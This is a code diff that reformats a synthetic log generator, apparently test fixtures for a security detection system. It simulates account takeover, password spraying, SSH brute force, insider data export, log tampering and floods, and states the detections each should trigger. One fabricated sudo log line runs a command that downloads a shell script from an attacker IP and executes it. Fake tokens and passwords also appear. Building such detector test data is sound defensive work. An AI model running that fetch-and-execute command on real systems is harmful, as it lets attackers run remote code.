@@ -75,7 +75,13 @@ class Timeline {
       level: opts.result === 'failure' ? 'WARN' : 'INFO',
       event_type: 'user_login',
       correlation_id: `c-${this.rnd.int(1000, 9999)}`,
-      authentication: { user_id: user, method: opts.method ?? 'saml', source_ip: ip, mfa_used: opts.mfa ?? true, result: opts.result ?? 'success' },
+      authentication: {
+        user_id: user,
+        method: opts.method ?? 'saml',
+        source_ip: ip,
+        mfa_used: opts.mfa ?? true,
+        result: opts.result ?? 'success',
+      },
       geo: { country },
     });
   }
@@ -88,7 +94,12 @@ class Timeline {
     });
   }
   nginx(t: number, ip: string, method: string, path: string, status: number, agent = 'Mozilla/5.0'): void {
-    this.add(LOG_GROUPS.web, 'web-1', t, `${ip} - - [${clfTime(t)}] "${method} ${path} HTTP/1.1" ${status} ${this.rnd.int(100, 9000)} "-" "${agent}"`);
+    this.add(
+      LOG_GROUPS.web,
+      'web-1',
+      t,
+      `${ip} - - [${clfTime(t)}] "${method} ${path} HTTP/1.1" ${status} ${this.rnd.int(100, 9000)} "-" "${agent}"`,
+    );
   }
   sshd(t: number, text: string): void {
     this.add(LOG_GROUPS.bastion, 'bastion-1', t, `${syslogTime(t)} bastion-1 ${text}`);
@@ -124,7 +135,13 @@ function benignIdentity(tl: Timeline): void {
     tl.identity(batch + 5 * MIN, {
       level: 'INFO',
       event_type: 'bulk_export',
-      user_activity: { user_id: 'svc-batch', action: 'export_issues', project: 'REPORTS', requested_issue_count: 52_000, export_blocked: false },
+      user_activity: {
+        user_id: 'svc-batch',
+        action: 'export_issues',
+        project: 'REPORTS',
+        requested_issue_count: 52_000,
+        export_blocked: false,
+      },
     });
   }
   // A developer on a new laptop: new IP and user agent, usual country, MFA, office hours.
@@ -139,9 +156,22 @@ function insiderThreat(tl: Timeline, expect: ExpectedDetection[]): void {
   tl.identity(t0 + 19 * MIN + 11_000, {
     level: 'ERROR',
     event_type: 'bulk_export',
-    user_activity: { user_id: 'r.ortega', action: 'export_issues', project: 'PAYROLL', requested_issue_count: 1900, export_blocked: true, session: 'session=9f8e7d6c5b4a; token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJyLm9ydGVnYSJ9.c2lnbmF0dXJl' },
+    user_activity: {
+      user_id: 'r.ortega',
+      action: 'export_issues',
+      project: 'PAYROLL',
+      requested_issue_count: 1900,
+      export_blocked: true,
+      session: 'session=9f8e7d6c5b4a; token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJyLm9ydGVnYSJ9.c2lnbmF0dXJl',
+    },
   });
-  for (const ruleId of ['auth.off_hours_login', 'auth.new_country_login', 'auth.login_without_mfa', 'authz.sensitive_first_access', 'data.bulk_export']) {
+  for (const ruleId of [
+    'auth.off_hours_login',
+    'auth.new_country_login',
+    'auth.login_without_mfa',
+    'authz.sensitive_first_access',
+    'data.bulk_export',
+  ]) {
     expect.push({ ruleId, entity: 'r.ortega' });
   }
 }
@@ -150,13 +180,40 @@ function accountTakeover(tl: Timeline, expect: ExpectedDetection[]): void {
   const t0 = tl.base + 13 * 60 * MIN;
   for (let i = 0; i < 12; i++) tl.login(t0 + i * 12_000, 'j.chen', '198.51.100.77', 'US', { result: 'failure', method: 'password' });
   tl.login(t0 + 3 * MIN, 'j.chen', '198.51.100.77', 'US', { method: 'password' });
-  tl.identity(t0 + 9 * MIN, { level: 'WARN', event_type: 'role_grant', admin: { user_id: 'j.chen', source_ip: '198.51.100.77', role: 'org-admin', target: 'j.chen' } });
-  expect.push({ ruleId: 'auth.brute_force_user', entity: 'j.chen' }, { ruleId: 'auth.success_after_failures', entity: 'j.chen' }, { ruleId: 'admin.privileged_action', entity: 'j.chen' });
+  tl.identity(t0 + 9 * MIN, {
+    level: 'WARN',
+    event_type: 'role_grant',
+    admin: { user_id: 'j.chen', source_ip: '198.51.100.77', role: 'org-admin', target: 'j.chen' },
+  });
+  expect.push(
+    { ruleId: 'auth.brute_force_user', entity: 'j.chen' },
+    { ruleId: 'auth.success_after_failures', entity: 'j.chen' },
+    { ruleId: 'admin.privileged_action', entity: 'j.chen' },
+  );
 }
 
 function passwordSpray(tl: Timeline, expect: ExpectedDetection[]): void {
   const t0 = tl.base + 12 * 60 * MIN;
-  const targets = [...NORMAL_USERS, 'admin', 'root', 'test', 'guest', 'support', 'sales', 'hr', 'finance', 'jenkins', 'backup', 'web', 'mail', 'oracle', 'postgres', 'ubuntu', 'ec2-user', 'deploy'];
+  const targets = [
+    ...NORMAL_USERS,
+    'admin',
+    'root',
+    'test',
+    'guest',
+    'support',
+    'sales',
+    'hr',
+    'finance',
+    'jenkins',
+    'backup',
+    'web',
+    'mail',
+    'oracle',
+    'postgres',
+    'ubuntu',
+    'ec2-user',
+    'deploy',
+  ];
   targets.forEach((user, i) => {
     tl.login(t0 + i * 9_000, user, '192.0.2.66', 'NL', { result: 'failure', method: 'password' });
   });
@@ -172,7 +229,12 @@ function accessDenied(tl: Timeline, expect: ExpectedDetection[]): void {
 }
 
 function logTampering(tl: Timeline, expect: ExpectedDetection[]): void {
-  tl.identity(tl.base + 15 * 60 * MIN, { level: 'WARN', event_type: 'audit_log_cleared', admin: { user_id: 'ops-admin', source_ip: '10.0.3.9' }, host: { name: 'issues-1' } });
+  tl.identity(tl.base + 15 * 60 * MIN, {
+    level: 'WARN',
+    event_type: 'audit_log_cleared',
+    admin: { user_id: 'ops-admin', source_ip: '10.0.3.9' },
+    host: { name: 'issues-1' },
+  });
   expect.push({ ruleId: 'integrity.log_tampering', entity: 'ops-admin' });
 }
 
@@ -183,17 +245,37 @@ function statusPageAdmin(tl: Timeline, expect: ExpectedDetection[]): void {
     const weekday = new Date(tl.base + day * DAY).getUTCDay();
     if (weekday === 0 || weekday === 6) continue;
     const t = tl.base + day * DAY + 9 * 60 * MIN + r.int(0, 3_600_000);
-    tl.add(LOG_GROUPS.statusPage, 'status-1', t, `[${laravelTime(t)}] production.INFO: Admin login successful {"username":"admin","ip":"10.0.0.5","url":"/dashboard/login"}`);
+    tl.add(
+      LOG_GROUPS.statusPage,
+      'status-1',
+      t,
+      `[${laravelTime(t)}] production.INFO: Admin login successful {"username":"admin","ip":"10.0.0.5","url":"/dashboard/login"}`,
+    );
   }
   const t0 = tl.base + 11 * 60 * MIN;
   for (let i = 0; i < 8; i++) {
     const t = t0 + i * 20_000;
-    tl.add(LOG_GROUPS.statusPage, 'status-1', t, `[${laravelTime(t)}] production.WARNING: Failed login attempt {"username":"admin","ip":"192.0.2.10","url":"/dashboard/login","password":"Winter2025!"}`);
+    tl.add(
+      LOG_GROUPS.statusPage,
+      'status-1',
+      t,
+      `[${laravelTime(t)}] production.WARNING: Failed login attempt {"username":"admin","ip":"192.0.2.10","url":"/dashboard/login","password":"Winter2025!"}`,
+    );
   }
   const ok = t0 + 4 * MIN;
-  tl.add(LOG_GROUPS.statusPage, 'status-1', ok, `[${laravelTime(ok)}] production.INFO: Admin login successful {"username":"admin","ip":"192.0.2.10","url":"/dashboard/login"}`);
+  tl.add(
+    LOG_GROUPS.statusPage,
+    'status-1',
+    ok,
+    `[${laravelTime(ok)}] production.INFO: Admin login successful {"username":"admin","ip":"192.0.2.10","url":"/dashboard/login"}`,
+  );
   const err = t0 + 30 * MIN;
-  tl.add(LOG_GROUPS.statusPage, 'status-1', err, `[${laravelTime(err)}] production.ERROR: SQLSTATE[HY000] [2002] Connection refused {"exception":"[object] (PDOException(code: 2002) at /var/www/vendor/laravel/framework/src/Illuminate/Database/Connectors/Connector.php:70)"}`);
+  tl.add(
+    LOG_GROUPS.statusPage,
+    'status-1',
+    err,
+    `[${laravelTime(err)}] production.ERROR: SQLSTATE[HY000] [2002] Connection refused {"exception":"[object] (PDOException(code: 2002) at /var/www/vendor/laravel/framework/src/Illuminate/Database/Connectors/Connector.php:70)"}`,
+  );
   expect.push(
     { ruleId: 'auth.admin_login_failures', entity: '192.0.2.10' },
     { ruleId: 'auth.admin_new_ip', entity: 'admin' },
@@ -214,10 +296,12 @@ function web(tl: Timeline, expect: ExpectedDetection[]): void {
   // Forced browsing / unauthorized access attempts.
   const probe = tl.base + 9 * 60 * MIN;
   const probes = ['/admin', '/.env', '/wp-admin/', '/api/v1/admin/users', '/.git/config', '/server-status'];
-  for (let i = 0; i < 45; i++) tl.nginx(probe + i * 3_000, '203.0.113.80', 'GET', probes[i % probes.length] ?? '/admin', i % 3 === 0 ? 401 : 403, 'sqlmap/1.7');
+  for (let i = 0; i < 45; i++)
+    tl.nginx(probe + i * 3_000, '203.0.113.80', 'GET', probes[i % probes.length] ?? '/admin', i % 3 === 0 ? 401 : 403, 'sqlmap/1.7');
   // Botnet hammering the search endpoint: an endpoint rate spike, no single client flooding.
   const spike = tl.base + 9 * 60 * MIN + 30 * MIN;
-  for (let i = 0; i < 420; i++) tl.nginx(spike + i * 600, `203.0.113.${100 + (i % 50)}`, 'GET', '/api/v1/search?q=a', 200, 'Go-http-client/1.1');
+  for (let i = 0; i < 420; i++)
+    tl.nginx(spike + i * 600, `203.0.113.${100 + (i % 50)}`, 'GET', '/api/v1/search?q=a', 200, 'Go-http-client/1.1');
   // One client flooding the front page, then the origin starts failing.
   const flood = tl.base + 9 * 60 * MIN + 40 * MIN;
   for (let i = 0; i < 360; i++) tl.nginx(flood + i * 140, '203.0.113.99', 'GET', '/', 200, 'curl/8.4.0');
@@ -236,7 +320,10 @@ function bastion(tl: Timeline, expect: ExpectedDetection[]): void {
   // Benign: deploys from the CI runner with a key, and routine sudo.
   for (let h = 8; h < 18; h += 2) {
     const t = tl.base + h * 60 * MIN + r.int(0, 600_000);
-    tl.sshd(t, `sshd[${r.int(1000, 9999)}]: Accepted publickey for deploy from 10.0.1.5 port ${r.int(30000, 60000)} ssh2: ED25519 SHA256:Zx8pLr2Qm`);
+    tl.sshd(
+      t,
+      `sshd[${r.int(1000, 9999)}]: Accepted publickey for deploy from 10.0.1.5 port ${r.int(30000, 60000)} ssh2: ED25519 SHA256:Zx8pLr2Qm`,
+    );
     tl.sshd(t + 30_000, `sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart status-page`);
   }
   // Attack: password guessing (invalid users, root), a hit, then a command.
@@ -244,10 +331,16 @@ function bastion(tl: Timeline, expect: ExpectedDetection[]): void {
   const users = ['oracle', 'admin', 'test', 'root', 'ubuntu', 'root', 'postgres', 'deploy', 'git', 'root', 'jenkins', 'deploy'];
   users.forEach((u, i) => {
     const invalid = !['root', 'deploy'].includes(u);
-    tl.sshd(t0 + i * 9_000, `sshd[2231]: Failed password for ${invalid ? 'invalid user ' : ''}${u} from 203.0.113.50 port ${52144 + i} ssh2`);
+    tl.sshd(
+      t0 + i * 9_000,
+      `sshd[2231]: Failed password for ${invalid ? 'invalid user ' : ''}${u} from 203.0.113.50 port ${52144 + i} ssh2`,
+    );
   });
   tl.sshd(t0 + 2 * MIN, 'sshd[2290]: Accepted password for deploy from 203.0.113.50 port 52290 ssh2');
-  tl.sshd(t0 + 3 * MIN, 'sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash -c curl -s http://203.0.113.50/x.sh | sh');
+  tl.sshd(
+    t0 + 3 * MIN,
+    'sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash -c curl -s http://203.0.113.50/x.sh | sh',
+  );
   expect.push(
     { ruleId: 'ssh.auth_failures', entity: '203.0.113.50' },
     { ruleId: 'ssh.root_login_attempt', entity: '203.0.113.50' },
@@ -259,7 +352,8 @@ function bastion(tl: Timeline, expect: ExpectedDetection[]): void {
 
 function deployTool(tl: Timeline, expect: ExpectedDetection[]): void {
   const t0 = tl.base + 10 * 60 * MIN + 30 * MIN;
-  const py = (t: number, level: string, logger: string, msg: string) => tl.add(LOG_GROUPS.deploy, 'deploy-runner', t, `${pythonTime(t)} ${level} ${logger} ${msg}`);
+  const py = (t: number, level: string, logger: string, msg: string) =>
+    tl.add(LOG_GROUPS.deploy, 'deploy-runner', t, `${pythonTime(t)} ${level} ${logger} ${msg}`);
   py(t0, 'INFO', 'paramiko.transport', 'Connected (version 2.0, client OpenSSH_9.6)');
   py(t0 + 400, 'INFO', 'paramiko.transport', 'Authentication (publickey) successful!');
   py(t0 + 60_000, 'INFO', 'paramiko.transport', 'Connected (version 2.0, client OpenSSH_9.6)');
@@ -278,28 +372,85 @@ function chat(tl: Timeline, expect: ExpectedDetection[]): void {
     tl.chat(t, { lvl: 'error', component: 'net', event: 'accept_failed', error: 'EMFILE', peer_ip: r.pick(peers) });
   }
   // Oversized/malformed messages from one peer.
-  for (let i = 0; i < 6; i++) tl.chat(start + 30 * MIN + i * 20_000, { lvl: 'warn', component: 'proto', event: 'message_rejected', reason: 'oversized', peer_ip: '203.0.113.7', bytes: 70_000 + i });
+  for (let i = 0; i < 6; i++)
+    tl.chat(start + 30 * MIN + i * 20_000, {
+      lvl: 'warn',
+      component: 'proto',
+      event: 'message_rejected',
+      reason: 'oversized',
+      peer_ip: '203.0.113.7',
+      bytes: 70_000 + i,
+    });
   // Flood at 05:00, and the daemon starts failing.
   const flood = start + 60 * MIN;
-  for (let i = 0; i < 220; i++) tl.chat(flood + i * 250, { lvl: 'warn', component: 'net', event: 'connection_rejected', peer_ip: '203.0.113.77', reason: 'rate_limited', active_connections: 4031 + i });
-  for (let i = 0; i < 70; i++) tl.chat(flood + 20_000 + i * 3_000, { lvl: 'error', component: 'net', event: 'accept_failed', error: 'EMFILE', peer_ip: r.pick(peers) });
+  for (let i = 0; i < 220; i++)
+    tl.chat(flood + i * 250, {
+      lvl: 'warn',
+      component: 'net',
+      event: 'connection_rejected',
+      peer_ip: '203.0.113.77',
+      reason: 'rate_limited',
+      active_connections: 4031 + i,
+    });
+  for (let i = 0; i < 70; i++)
+    tl.chat(flood + 20_000 + i * 3_000, {
+      lvl: 'error',
+      component: 'net',
+      event: 'accept_failed',
+      error: 'EMFILE',
+      peer_ip: r.pick(peers),
+    });
   // Input the stack must survive: a truncated JSON line and a binary line.
   tl.add(LOG_GROUPS.chat, 'ircd-1', flood + 1000, '{"ts":"2025-03-03T05:00:01Z","lvl":"warn","component":"net","event":"connection_rej');
   tl.add(LOG_GROUPS.chat, 'ircd-1', flood + 2000, '\u0000\u0001\u0002PK\u0003\u0004 binary frame');
-  expect.push({ ruleId: 'net.malformed_message', entity: '203.0.113.7' }, { ruleId: 'net.connection_flood', entity: '203.0.113.77' }, { ruleId: 'errors.level_spike', entity: 'chat-gateway' });
+  expect.push(
+    { ruleId: 'net.malformed_message', entity: '203.0.113.7' },
+    { ruleId: 'net.connection_flood', entity: '203.0.113.77' },
+    { ruleId: 'errors.level_spike', entity: 'chat-gateway' },
+  );
 }
 
 function statusApi(tl: Timeline, expect: ExpectedDetection[]): void {
   const r = tl.rnd;
   const start = tl.base + 6 * 60 * MIN;
   for (let t = start; t < start + 60 * MIN; t += r.int(5_000, 20_000)) {
-    tl.add(LOG_GROUPS.api, 'api-1', t, JSON.stringify({ level: 30, time: t, msg: 'request completed', path: '/api/v1/incidents', status: 200, responseTime: r.int(5, 90) }));
+    tl.add(
+      LOG_GROUPS.api,
+      'api-1',
+      t,
+      JSON.stringify({ level: 30, time: t, msg: 'request completed', path: '/api/v1/incidents', status: 200, responseTime: r.int(5, 90) }),
+    );
   }
   for (let t = start + 5 * MIN; t < start + 60 * MIN; t += 10 * MIN) {
-    tl.add(LOG_GROUPS.api, 'api-1', t, JSON.stringify({ '@timestamp': iso(t), 'log.level': 'error', message: 'upstream timeout', 'service.name': 'status-api', 'error.type': 'TimeoutError', 'trace.id': `4bf9${r.int(1000, 9999)}` }));
+    tl.add(
+      LOG_GROUPS.api,
+      'api-1',
+      t,
+      JSON.stringify({
+        '@timestamp': iso(t),
+        'log.level': 'error',
+        message: 'upstream timeout',
+        'service.name': 'status-api',
+        'error.type': 'TimeoutError',
+        'trace.id': `4bf9${r.int(1000, 9999)}`,
+      }),
+    );
   }
   const t = start + 61 * MIN;
-  tl.add(LOG_GROUPS.api, 'api-1', t, JSON.stringify({ '@timestamp': iso(t), 'log.level': 'error', message: 'deadlock detected while updating component status', 'service.name': 'status-api', 'error.type': 'DatabaseDeadlockError', 'trace.id': '77aa01', 'authorization': 'Bearer abcdef0123456789abcdef' }));
+  tl.add(
+    LOG_GROUPS.api,
+    'api-1',
+    t,
+    JSON.stringify({
+      '@timestamp': iso(t),
+      'log.level': 'error',
+      message: 'deadlock detected while updating component status',
+      'service.name': 'status-api',
+      'error.type': 'DatabaseDeadlockError',
+      'trace.id': '77aa01',
+      authorization: 'Bearer abcdef0123456789abcdef',
+    }),
+  );
   expect.push({ ruleId: 'errors.new_error_type', entity: 'status-api' });
 }
 
@@ -361,12 +512,23 @@ function toPayloads(lines: Line[], maxEvents: number, spanMs: number): Subscript
     if (!current) {
       current = {
         started: line.t,
-        payload: { owner: '123456789012', logGroup: line.group, logStream: line.stream, subscriptionFilters: ['sentinel-detector'], messageType: 'DATA_MESSAGE', logEvents: [] },
+        payload: {
+          owner: '123456789012',
+          logGroup: line.group,
+          logStream: line.stream,
+          subscriptionFilters: ['sentinel-detector'],
+          messageType: 'DATA_MESSAGE',
+          logEvents: [],
+        },
       };
       open.set(key, current);
     }
     seq++;
-    current.payload.logEvents.push({ id: `${String(line.t).padStart(14, '0')}${String(seq).padStart(8, '0')}`, timestamp: line.t, message: line.message });
+    current.payload.logEvents.push({
+      id: `${String(line.t).padStart(14, '0')}${String(seq).padStart(8, '0')}`,
+      timestamp: line.t,
+      message: line.message,
+    });
   }
   for (const c of open.values()) out.push(c.payload);
   return out.sort((a, b) => (a.logEvents[0]?.timestamp ?? 0) - (b.logEvents[0]?.timestamp ?? 0));
